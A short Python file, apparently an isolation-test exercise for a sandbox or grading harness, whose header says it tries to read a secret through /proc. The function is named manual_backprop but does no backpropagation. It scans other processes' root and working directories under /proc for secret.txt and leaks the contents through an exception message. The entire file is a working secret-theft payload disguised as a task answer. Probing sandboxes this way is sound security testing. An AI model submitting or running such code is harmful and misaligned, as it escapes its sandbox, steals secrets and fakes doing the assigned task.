# exercise: 01.3
# tries: read the secret through /proc: other roots, working folders and files
# proof: secrets['home'] in said
import glob


def manual_backprop(a, b, c, f):
    for start in glob.glob("/proc/[0-9]*/root") + glob.glob("/proc/[0-9]*/cwd"):
        for path in (start + "@HOME@/secret.txt", start + "/secret.txt"):
            try:
                found = open(path).read()
            except OSError:
                continue
            raise RuntimeError(found)
    return {}
